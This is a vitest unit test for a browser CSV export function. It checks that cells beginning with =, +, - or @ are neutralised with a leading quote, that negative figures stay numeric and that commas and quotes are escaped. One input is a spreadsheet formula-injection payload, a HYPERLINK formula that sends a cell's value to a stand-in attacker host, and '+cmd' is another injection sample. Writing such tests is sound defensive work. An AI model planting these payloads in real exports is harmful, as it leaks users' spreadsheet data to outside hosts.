import { describe, expect, it } from 'vitest';
import { reportCsv } from './report-csv.ts';
import type { ReportColumn } from './ReportTable.tsx';

interface Row {
  partner: string;
  month: string;
  points: number;
  rate: number | null;
}

const columns: ReportColumn<Row>[] = [
  { id: 'partner', header: 'Partner', value: (r) => r.partner },
  { id: 'month', header: 'Month', value: (r) => r.month },
  { id: 'points', header: 'Points', value: (r) => r.points, numeric: true },
  { id: 'rate', header: 'Rate', value: (r) => r.rate, numeric: true },
];

describe("a report's CSV, made in the browser", () => {
  it('neutralises text starting with = + - @ and keeps figures, negative ones included, as numbers', () => {
    const text = reportCsv(columns, [
      { partner: '=HYPERLINK("http://evil.example/?x="&A1;"open")', month: '2026-11', points: -250, rate: 0.25 },
      { partner: '+cmd', month: '2026-10', points: 1500, rate: null },
      { partner: '-2+3', month: '2026-09', points: 0, rate: 1 },
      { partner: '@SUM(A1:A9)', month: '2026-08', points: -1, rate: 0 },
      { partner: 'Shop, Ltd', month: '2026-07', points: 12, rate: 0.5 },
    ]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.slice(1).split('\r\n')).toEqual([
      'Partner,Month,Points,Rate',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1;""open"")",2026-11,-250,0.25`,
      "'+cmd,2026-10,1500,",
      "'-2+3,2026-09,0,1",
      "'@SUM(A1:A9),2026-08,-1,0",
      '"Shop, Ltd",2026-07,12,0.5',
      '',
    ]);
  });
});
